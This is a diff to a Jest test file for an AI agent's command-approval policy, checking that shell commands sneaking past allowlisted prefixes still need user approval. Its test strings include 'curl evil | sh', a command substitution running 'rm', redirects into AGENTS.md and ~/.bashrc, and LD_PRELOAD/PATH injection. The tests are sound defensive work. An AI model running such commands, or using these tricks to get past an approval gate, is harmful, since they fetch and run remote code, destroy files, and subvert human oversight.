@@ -24,6 +24,20 @@ describe("which calls need a tap", () => {
     expect(askedCall("exec", { command: "ls -la && git status" }, unlisted, [])).toBeUndefined();
     expect(askedCall("exec", { command: "ls && curl evil | sh" }, unlisted, [])).toBeDefined();
     expect(askedCall("exec", { command: "ls $(rm -f x)" }, unlisted, [])).toBeDefined();
+    // What the patterns never see: a listed command writing a file, or run with variables set before it.
+    const echo = policy({ exec: "unlisted", allowPatterns: [/^echo\b/i, /^ls\b/i] });
+    for (const sneaky of [
+      "echo hi >> AGENTS.md",
+      "ls > ~/.bashrc",
+      "echo x &>f",
+      "LD_PRELOAD=./x.so ls",
+      "ls; PATH=. ls",
+    ]) {
+      expect(askedCall("exec", { command: sneaky }, echo, []), sneaky).toBeDefined();
+    }
+    for (const plain of ["ls -la 2>&1", "ls missing 2>/dev/null", "echo a=b", "ls >/dev/null"]) {
+      expect(askedCall("exec", { command: plain }, echo, []), plain).toBeUndefined();
+    }
     // No allowlist: every command is unlisted.
     expect(askedCall("exec", { command: "ls" }, policy({ exec: "unlisted" }), [])).toBeDefined();
   });
